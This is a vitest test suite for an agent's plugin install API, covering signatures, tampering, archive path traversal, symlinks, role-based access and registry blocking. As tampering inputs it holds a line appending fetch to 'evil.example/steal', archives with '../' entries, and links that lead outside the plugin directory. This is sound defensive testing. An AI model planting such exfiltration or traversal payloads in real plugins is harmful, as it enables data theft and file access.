import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import * as tar from 'tar';
import { afterEach, describe, expect, it } from 'vitest';
import { signDirectory } from '../../agent/plugins/plugin-signature.js';
import { startAgent, tempDir, type RunningAgent } from '../helpers/agent-harness.js';

const SUPERVISOR_KEY = 'plug-sup-key-0123456789';
const OPERATOR_KEY = 'plug-op-key-0123456789';
const GUEST_KEY = 'plug-guest-key-0123456789';

const publisher = crypto.generateKeyPairSync('ed25519');
const stranger = crypto.generateKeyPairSync('ed25519');
const publicB64 = (k: crypto.KeyObject) => k.export({ format: 'der', type: 'spki' }).toString('base64');

function manifest(name: string, extra: { type?: string; version?: string; requires?: string[]; sandbox?: boolean; signed?: boolean; bundle?: string; hooks?: string[] } = {}): string {
  return `[plugin]
name = "${name}"
version = "${extra.version ?? '1.2.0'}"
publisher = "acme"
description = "Panel for ${name}"
type = "${extra.type ?? 'control_center_ui'}"
[compatibility]
svc_version = ">=0.4.0"
[capabilities]
requires = ${JSON.stringify(extra.requires ?? ['ui.panel', 'entity.read'])}
[security]
signed = ${extra.signed ?? false}
sandbox = ${extra.sandbox ?? true}
${extra.hooks ? `[hooks]\nenabled = ${JSON.stringify(extra.hooks)}\n` : ''}[control_center]
${extra.bundle ? `bundle = "${extra.bundle}"\n` : ''}panels = [{ id = "${name}-main", title = "Main", component = "MainPanel" }]
`;
}

interface Project {
  root: string;
  config: string;
  keys: string;
  env: Record<string, string>;
  /** Writes a plugin directory under `plugins-src/<dir>`; signs it with `key` unless null. */
  plugin(dir: string, toml: string, key?: crypto.KeyObject | null, files?: Record<string, string>): string;
}

function pluginProject(): Project {
  const root = tempDir('svc-plugins-');
  fs.writeFileSync(path.join(root, 'svc.toml'), '[project]\nname = "Plugins"\nversion = "1.0.0"\n');
  const keys = path.join(root, 'keys.json');
  fs.writeFileSync(keys, JSON.stringify([
    { key_id: 'sup', token: SUPERVISOR_KEY, role: 'supervisor' },
    { key_id: 'op', token: OPERATOR_KEY, role: 'operator' },
    { key_id: 'guest', token: GUEST_KEY, role: 'guest' },
  ]));
  const index = path.join(root, 'registry.json');
  fs.writeFileSync(index, JSON.stringify({
    plugins: [
      { name: 'floor-panel', description: 'Floor map panel', plugin_type: 'control-center-ui', publisher: 'acme', tier: 'verified', versions: ['1.2.0'] },
      { name: 'evil-panel', description: 'Known bad', tier: 'blocked', versions: ['1.2.0'] },
      { name: 'core-readiness', description: 'Readiness extension', plugin_type: 'readiness', tier: 'official', versions: ['1.2.0'] },
      { name: 'old-panel', description: 'Old panel', plugin_type: 'control-center-ui', tier: 'deprecated', versions: ['1.2.0'] },
    ],
  }));
  const trusted = path.join(root, 'trusted-keys.json');
  fs.writeFileSync(trusted, JSON.stringify({ acme: publicB64(publisher.publicKey) }));
  return {
    root,
    config: path.join(root, 'svc.toml'),
    keys,
    env: { SVC_API_KEYS_FILE: keys, SVC_PLUGIN_TRUSTED_KEYS_FILE: trusted, SVC_PLUGIN_REGISTRY_INDEX: index },
    plugin(dir, toml, key = publisher.privateKey, files = { 'index.js': `export default function MainPanel() { return 'hello from ${dir}'; }\n` }) {
      const d = path.join(root, 'plugins-src', dir);
      fs.mkdirSync(d, { recursive: true });
      fs.writeFileSync(path.join(d, 'svc.plugin.toml'), toml);
      for (const [name, text] of Object.entries(files)) {
        fs.mkdirSync(path.dirname(path.join(d, name)), { recursive: true });
        fs.writeFileSync(path.join(d, name), text);
      }
      if (key) signDirectory(d, 'acme', key);
      return d;
    },
  };
}

let agent: RunningAgent | null = null;
afterEach(async () => {
  await agent?.close();
  agent = null;
});

const post = (body: unknown, key?: string): RequestInit => ({
  method: 'POST',
  headers: { 'content-type': 'application/json', ...(key ? { authorization: `Bearer ${key}` } : {}) },
  body: typeof body === 'string' ? body : JSON.stringify(body),
});

async function start(p: Project, stateDir?: string) {
  agent = await startAgent({ configPath: p.config, env: p.env, ...(stateDir ? { stateDir } : {}) });
  return agent;
}

describe('plugins', () => {
  it('without a configuration: empty lists, 404 bundles, 400 writes', async () => {
    const p = pluginProject();
    agent = await startAgent({ env: { SVC_API_KEYS_FILE: p.keys } });
    expect((await agent.json('/v1/plugins')).body).toEqual({ plugins: [] });
    expect((await agent.json('/v1/plugins/control-center')).body).toEqual({ plugins: [] });
    expect((await agent.json('/v1/plugins/control-center/x/bundle')).status).toBe(404);
    const r = await agent.json('/v1/plugins/install', post({ path: 'x' }, SUPERVISOR_KEY));
    expect(r.status).toBe(400);
    expect(r.body.error).toBe('project root unavailable');
  });

  it('installs a signed UI plugin from a directory, enables it, serves its bundle, and keeps it across a restart', async () => {
    const p = pluginProject();
    p.plugin('floor', manifest('floor-panel', { hooks: ['on_install', 'on_enable'] }));
    const a = await start(p);
    const installed = await a.json('/v1/plugins/install', post({ path: 'plugins-src/floor' }, SUPERVISOR_KEY));
    expect(installed.status).toBe(200);
    expect(installed.body.ok).toBe(true);
    expect(installed.body.plugin).toMatchObject({
      name: 'floor-panel',
      version: '1.2.0',
      state: 'installed',
      trust_tier: 'verified',
      plugin_type: 'control-center-ui',
      install_path: path.join('.svc-control-center', 'plugins', 'floor-panel'),
      signature: 'verified',
      publisher: 'acme',
      dangerous_approved: false,
    });
    expect(installed.body.plugin.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    // Not a UI panel until enabled.
    expect((await a.json('/v1/plugins/control-center')).body.plugins).toEqual([]);
    const list = await a.json('/v1/plugins');
    expect(list.body.plugins).toHaveLength(1);
    expect(list.body.plugins[0]).toMatchObject({
      name: 'floor-panel',
      state: 'installed',
      trust_tier: 'verified',
      control_center_panels: [{ id: 'floor-panel-main', title: 'Main', component: 'MainPanel' }],
      manifest: { plugin: { name: 'floor-panel', version: '1.2.0', type: 'control-center-ui' }, compatibility: { svc_version: '>=0.4.0', api_version: 'v1' } },
    });

    const enabled = await a.json('/v1/plugins/floor-panel/enable', post({}, OPERATOR_KEY));
    expect(enabled.status).toBe(200);
    expect(enabled.body).toEqual({ ok: true, name: 'floor-panel', state: 'enabled' });
    const cc = await a.json('/v1/plugins/control-center');
    expect(cc.body.plugins.map((x: any) => x.name)).toEqual(['floor-panel']);
    const bundle = await a.json('/v1/plugins/control-center/floor-panel/bundle');
    expect(bundle.status).toBe(200);
    expect(bundle.body).toMatchObject({
      version: 'v1',
      plugin: 'floor-panel',
      available: true,
      content_type: 'application/javascript',
      signed: true,
      signature_check: 'install-time',
      sandbox: true,
      bundle: "export default function MainPanel() { return 'hello from floor'; }\n",
    });
    // Hooks run no code; their dispatch is recorded.
    const audit = fs.readFileSync(path.join(p.root, '.svc-control-center', 'plugins', 'audit.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    expect(audit.map((l) => l.hook)).toEqual(['on_install', 'on_enable']);
    expect(audit[0]).toMatchObject({ plugin: 'floor-panel', message: 'hook not executed (no runtime)' });

    // Both mutations are in the audit chain; the state survives a restart.
    const stateDir = a.stateDir;
    await a.close();
    agent = null;
    const b = await start(p, stateDir);
    const after = await b.json('/v1/plugins');
    expect(after.body.plugins[0]).toMatchObject({ name: 'floor-panel', state: 'enabled' });
    expect((await b.json('/v1/plugins/control-center')).body.plugins).toHaveLength(1);
    const disabled = await b.json('/v1/plugins/floor-panel/disable', post({}, OPERATOR_KEY));
    expect(disabled.body).toEqual({ ok: true, name: 'floor-panel', state: 'disabled' });
    expect((await b.json('/v1/plugins/control-center')).body.plugins).toEqual([]);
    const stored = JSON.parse(fs.readFileSync(path.join(p.root, '.svc-control-center', 'plugins', 'state.json'), 'utf8'));
    expect(stored.plugins['floor-panel'].state).toBe('disabled');
  });

  it('installs from a .tar.gz (with or without a top-level folder) with the same signature check', async () => {
    const p = pluginProject();
    p.plugin('floor', manifest('floor-panel'));
    await tar.c({ gzip: true, file: path.join(p.root, 'floor.tgz'), cwd: path.join(p.root, 'plugins-src') }, ['floor']);
    await tar.c({ gzip: true, file: path.join(p.root, 'flat.tar.gz'), cwd: path.join(p.root, 'plugins-src', 'floor') }, ['.']);
    const a = await start(p);
    for (const file of ['floor.tgz', 'flat.tar.gz']) {
      const r = await a.json('/v1/plugins/install', post({ path: file }, SUPERVISOR_KEY));
      expect(r.status, file).toBe(200);
      expect(r.body.plugin).toMatchObject({ name: 'floor-panel', signature: 'verified', state: 'installed' });
    }
    // No staging directories left behind.
    expect(fs.readdirSync(path.join(p.root, '.svc-control-center', 'plugins')).filter((n) => n.startsWith('.'))).toEqual([]);
  });

  it('refuses archives with links or entries that climb out of the unpack directory', async () => {
    const p = pluginProject();
    const dir = p.plugin('floor', manifest('floor-panel'));
    fs.writeFileSync(path.join(p.root, 'outside.txt'), 'secret\n');
    await tar.c({ gzip: true, file: path.join(p.root, 'climb.tgz'), cwd: dir, preservePaths: true }, ['svc.plugin.toml', '../../outside.txt']);
    fs.symlinkSync(p.config, path.join(dir, 'link.toml'));
    await tar.c({ gzip: true, file: path.join(p.root, 'link.tgz'), cwd: dir }, ['.']);
    fs.writeFileSync(path.join(p.root, 'junk.tgz'), 'not an archive');
    const a = await start(p);
    const climb = await a.json('/v1/plugins/install', post({ path: 'climb.tgz' }, SUPERVISOR_KEY));
    expect(climb.status).toBe(400);
    expect(climb.body.error).toBe("plugin install rejected: archive unreadable: TAR_ENTRY_ERROR: path contains '..'");
    const link = await a.json('/v1/plugins/install', post({ path: 'link.tgz' }, SUPERVISOR_KEY));
    expect(link.status).toBe(400);
    expect(link.body.error).toContain('is a SymbolicLink');
    const junk = await a.json('/v1/plugins/install', post({ path: 'junk.tgz' }, SUPERVISOR_KEY));
    expect(junk.status).toBe(400);
    expect(junk.body.error).toMatch(/^plugin install rejected: archive unreadable/);
    const notArchive = await a.json('/v1/plugins/install', post({ path: 'svc.toml' }, SUPERVISOR_KEY));
    expect(notArchive.body.error).toBe('plugin path must be a directory or a .tar.gz, .tgz or .tar archive');
    expect((await a.json('/v1/plugins')).body.plugins).toEqual([]);
    expect(fs.readFileSync(path.join(p.root, 'outside.txt'), 'utf8')).toBe('secret\n');
    expect(fs.readdirSync(path.join(p.root, '.svc-control-center', 'plugins'))).toEqual([]);
  });

  it('refuses a tampered plugin, a wrong key, a blocked tier and an unsigned official plugin, and records nothing', async () => {
    const p = pluginProject();
    const dir = p.plugin('floor', manifest('floor-panel'));
    fs.appendFileSync(path.join(dir, 'index.js'), 'fetch("https://evil.example/steal");\n');
    p.plugin('wrongkey', manifest('wrong-key', { signed: true }), stranger.privateKey);
    p.plugin('evil', manifest('evil-panel'), null);
    p.plugin('core', manifest('core-readiness', { type: 'readiness' }), null);
    p.plugin('claims', manifest('claims-signed', { signed: true }), null);
    // Archive: the files were changed after signing too.
    await tar.c({ gzip: true, file: path.join(p.root, 'tampered.tgz'), cwd: path.join(p.root, 'plugins-src') }, ['floor']);
    const a = await start(p);
    const cases: [string, string][] = [
      ['plugins-src/floor', 'plugin files do not match the signed digest (tampered or modified after signing)'],
      ['tampered.tgz', 'tampered'],
      ['plugins-src/wrongkey', "signature does not verify with the trusted key of 'acme'"],
      ['plugins-src/evil', "plugin 'evil-panel' is blocked by the registry"],
      ['plugins-src/core', 'a official plugin must carry a valid signature'],
      ['plugins-src/claims', 'the manifest says signed but the plugin has no signature file'],
    ];
    for (const [source, reason] of cases) {
      const r = await a.json('/v1/plugins/install', post({ path: source }, SUPERVISOR_KEY));
      expect(r.status, source).toBe(400);
      expect(r.body.code).toBe('bad_request');
      expect(r.body.error, source).toMatch(/^plugin install rejected: /);
      expect(r.body.error, source).toContain(reason);
    }
    expect((await a.json('/v1/plugins')).body.plugins).toEqual([]);
    const store = path.join(p.root, '.svc-control-center', 'plugins');
    expect(fs.readdirSync(store)).toEqual([]);
  });

  it('checks capabilities, sandbox, compatibility and the manifest', async () => {
    const p = pluginProject();
    p.plugin('writer', manifest('device-writer', { type: 'recovery', requires: ['device.write', 'network.outbound'] }));
    p.plugin('nosandbox', manifest('floor-panel', { sandbox: false }));
    p.plugin('future', manifest('future-panel').replace('svc_version = ">=0.4.0"', 'svc_version = ">=99.0.0"'));
    p.plugin('badname', manifest('Bad Name!'));
    p.plugin('escape', manifest('escape-panel', { bundle: '../../svc.toml' }));
    fs.mkdirSync(path.join(p.root, 'plugins-src', 'empty'));
    const a = await start(p);
    const install = (body: unknown) => a.json('/v1/plugins/install', post(body, SUPERVISOR_KEY));
    const denied = await install({ path: 'plugins-src/writer' });
    expect(denied.status).toBe(400);
    expect(denied.body.error).toContain('dangerous capabilities need approve_dangerous: device.write, network.outbound');
    const approved = await install({ path: 'plugins-src/writer', approve_dangerous: true });
    expect(approved.status).toBe(200);
    expect(approved.body.plugin).toMatchObject({ dangerous_approved: true, trust_tier: 'community', plugin_type: 'recovery' });
    expect((await install({ path: 'plugins-src/nosandbox' })).body.error).toContain('a verified plugin must run sandboxed');
    expect((await install({ path: 'plugins-src/future' })).body.error).toContain('needs svc >=99.0.0');
    expect((await install({ path: 'plugins-src/badname' })).body.error).toContain("plugin.name 'Bad Name!'");
    expect((await install({ path: 'plugins-src/escape' })).body.error).toContain("control_center.bundle '../../svc.toml'");
    const empty = await install({ path: 'plugins-src/empty' });
    expect(empty.status).toBe(400);
    expect(empty.body.error).toBe('missing svc.plugin.toml in plugins-src/empty');
    expect((await install({})).body.error).toBe('missing plugin name or path');
    expect((await install({ name: 'nope' })).body.error).toBe('plugin not found: nope; provide path or a registry name');
    // Outside the project root, through .. or an absolute path.
    const outside = tempDir('svc-outside-');
    for (const bad of ['../', outside, '/etc']) {
      const r = await install({ path: bad });
      expect(r.status, bad).toBe(400);
      expect(r.body.error).toBe('plugin path must lie inside the project root');
    }
    // The project root holds the store; the store itself is not a source either.
    fs.mkdirSync(path.join(p.root, '.svc-control-center', 'plugins', 'device-writer'), { recursive: true });
    for (const bad of ['.', '.svc-control-center', '.svc-control-center/plugins/device-writer']) {
      const r = await install({ path: bad });
      expect(r.status, bad).toBe(400);
      expect(r.body.error).toBe('plugin path must not be or contain the plugin store');
    }
    // A link inside the project that leads out of it.
    fs.symlinkSync(outside, path.join(p.root, 'plugins-src', 'link-out'));
    expect((await install({ path: 'plugins-src/link-out' })).body.error).toBe('plugin path must lie inside the project root');
    // A link inside the plugin directory is refused (what is installed must be what was signed).
    const linked = p.plugin('linked', manifest('linked-panel'), null);
    fs.symlinkSync(p.config, path.join(linked, 'config.toml'));
    expect((await install({ path: 'plugins-src/linked' })).body.error).toBe('plugin install rejected: plugin contains a symbolic link: config.toml');
  });

  it('installs by name from examples/plugins and warns about a deprecated tier', async () => {
    const p = pluginProject();
    const dir = p.plugin('x', manifest('old-panel'));
    fs.mkdirSync(path.join(p.root, 'examples', 'plugins'), { recursive: true });
    fs.renameSync(dir, path.join(p.root, 'examples', 'plugins', 'old_panel'));
    const a = await start(p);
    const r = await a.json('/v1/plugins/install', post({ name: 'svc-plugin-old-panel' }, SUPERVISOR_KEY));
    expect(r.status).toBe(200);
    expect(r.body.plugin.trust_tier).toBe('deprecated');
    expect(r.body.warnings).toEqual(["plugin 'old-panel' is deprecated by the registry"]);
  });

  it('access: install needs Provision, enable/disable need Operate (401 without a key, 403 without the action); bad bodies are 400', async () => {
    const p = pluginProject();
    p.plugin('floor', manifest('floor-panel'));
    const a = await start(p);
    const reasons: string[] = [];
    a.agent.services.bus.subscribe((e) => e.type === 'AuthFailed' && reasons.push(String(e.payload['reason'])));
    expect((await a.json('/v1/plugins/install', post({ path: 'plugins-src/floor' }))).status).toBe(401);
    expect(reasons).toEqual(['missing_or_invalid_token']);
    expect((await a.json('/v1/plugins/install', post({ path: 'plugins-src/floor' }, OPERATOR_KEY))).status).toBe(403);
    expect((await a.json('/v1/plugins/install', post({ path: 'plugins-src/floor' }, GUEST_KEY))).status).toBe(403);
    const badJson = await a.json('/v1/plugins/install', post('{not json', SUPERVISOR_KEY));
    expect(badJson.status).toBe(400);
    expect(badJson.body.error).toMatch(/^invalid JSON body/);
    expect((await a.json('/v1/plugins/install', post({ path: 'plugins-src/floor', approve_dangerous: 'yes' }, SUPERVISOR_KEY))).status).toBe(400);
    expect((await a.json('/v1/plugins/install', post([1], SUPERVISOR_KEY))).status).toBe(400);
    expect((await a.json('/v1/plugins/install', post({ path: 'plugins-src/floor' }, SUPERVISOR_KEY))).status).toBe(200);
    expect((await a.json('/v1/plugins/floor-panel/enable', post({}))).status).toBe(401);
    expect((await a.json('/v1/plugins/floor-panel/enable', post({}, GUEST_KEY))).status).toBe(403);
    expect((await a.json('/v1/plugins/floor-panel/disable', post({}, GUEST_KEY))).status).toBe(403);
    const unknown = await a.json('/v1/plugins/nope/enable', post({}, OPERATOR_KEY));
    expect(unknown.status).toBe(404);
    expect(unknown.body).toMatchObject({ code: 'not_found', error: 'plugin not installed: nope' });
    expect((await a.json('/v1/plugins/nope/disable', post({}, OPERATOR_KEY))).status).toBe(404);
    // Wrong method on a plugin path.
    expect((await a.json('/v1/plugins/install')).status).toBe(404);
    // The successful install is in the mutation audit chain.
    const chain = await a.json('/v1/audit/mutations', { headers: { authorization: `Bearer ${SUPERVISOR_KEY}` } });
    expect(chain.status).toBe(200);
    // Only the 2xx install is recorded: refused calls (401, 403, 400) change nothing.
    expect(chain.body.audit.records.map((r: any) => JSON.parse(r.payload)).map((x: any) => [x.path, x.status])).toEqual([['/v1/plugins/install', 200]]);
  });

  it('refuses to enable a plugin whose installed files changed, and a plugin blocked after install', async () => {
    const p = pluginProject();
    p.plugin('floor', manifest('floor-panel'));
    p.plugin('other', manifest('other-panel'));
    const a = await start(p);
    expect((await a.json('/v1/plugins/install', post({ path: 'plugins-src/floor' }, SUPERVISOR_KEY))).status).toBe(200);
    expect((await a.json('/v1/plugins/install', post({ path: 'plugins-src/other' }, SUPERVISOR_KEY))).status).toBe(200);
    fs.appendFileSync(path.join(p.root, '.svc-control-center', 'plugins', 'floor-panel', 'index.js'), '// injected\n');
    const r = await a.json('/v1/plugins/floor-panel/enable', post({}, OPERATOR_KEY));
    expect(r.status).toBe(409);
    expect(r.body.error).toBe("plugin 'floor-panel' files changed since install (digest mismatch); reinstall it");
    expect((await a.json('/v1/plugins')).body.plugins.find((x: any) => x.name === 'floor-panel').state).toBe('installed');
    // The registry blocks other-panel after it was installed.
    const index = JSON.parse(fs.readFileSync(p.env['SVC_PLUGIN_REGISTRY_INDEX']!, 'utf8'));
    index.plugins.push({ name: 'other-panel', tier: 'blocked', versions: [] });
    fs.writeFileSync(p.env['SVC_PLUGIN_REGISTRY_INDEX']!, JSON.stringify(index));
    const blocked = await a.json('/v1/plugins/other-panel/enable', post({}, OPERATOR_KEY));
    expect(blocked.status).toBe(400);
    expect(blocked.body.error).toBe("plugin 'other-panel' is blocked by the registry");
    expect((await a.json('/v1/plugins')).body.plugins.find((x: any) => x.name === 'other-panel').trust_tier).toBe('blocked');
  });

  it('bundle: unknown plugin or traversal in the name is 404, a link out of the plugin directory is refused, a missing build says how to build', async () => {
    const p = pluginProject();
    p.plugin('floor', manifest('floor-panel'));
    p.plugin('nobuild', manifest('nobuild-panel'), publisher.privateKey, { 'README.md': 'no bundle yet\n' });
    const a = await start(p);
    expect((await a.json('/v1/plugins/install', post({ path: 'plugins-src/floor' }, SUPERVISOR_KEY))).status).toBe(200);
    expect((await a.json('/v1/plugins/install', post({ path: 'plugins-src/nobuild' }, SUPERVISOR_KEY))).status).toBe(200);
    expect((await a.json('/v1/plugins/control-center/nope/bundle')).status).toBe(404);
    expect((await a.json('/v1/plugins/control-center/..%2F..%2Fsvc.toml/bundle')).status).toBe(404);
    expect((await a.json('/v1/plugins/control-center/floor-panel/extra/bundle')).status).toBe(404);
    expect((await a.json('/v1/plugins/control-center//bundle')).status).toBe(404);
    const missing = await a.json('/v1/plugins/control-center/nobuild-panel/bundle');
    expect(missing.status).toBe(200);
    expect(missing.body).toMatchObject({ plugin: 'nobuild-panel', available: false, signed: true, signature_check: 'install-time' });
    expect(missing.body.hint).toContain('index.js');
    const installed = path.join(p.root, '.svc-control-center', 'plugins', 'floor-panel', 'index.js');
    fs.rmSync(installed);
    fs.symlinkSync(p.config, installed);
    const escaped = await a.json('/v1/plugins/control-center/floor-panel/bundle');
    expect(escaped.status).toBe(400);
    expect(escaped.body.error).toBe('bundle path escapes the plugin directory');
  });

  it('search matches name, description or type in the registry index', async () => {
    const p = pluginProject();
    const a = await start(p);
    const all = await a.json('/v1/plugins/search');
    expect(all.body.plugins.map((x: any) => x.name)).toEqual(['core-readiness', 'evil-panel', 'floor-panel', 'old-panel']);
    expect(all.body.query).toBe('');
    const q = await a.json('/v1/plugins/search?q=READINESS');
    expect(q.body).toEqual({
      plugins: [{ name: 'core-readiness', description: 'Readiness extension', plugin_type: 'readiness', tier: 'official', versions: ['1.2.0'], version_checksums: {}, version_signatures: {} }],
      query: 'READINESS',
    });
    expect((await a.json('/v1/plugins/search?q=floor+map')).body.plugins.map((x: any) => x.name)).toEqual(['floor-panel']);
  });
});
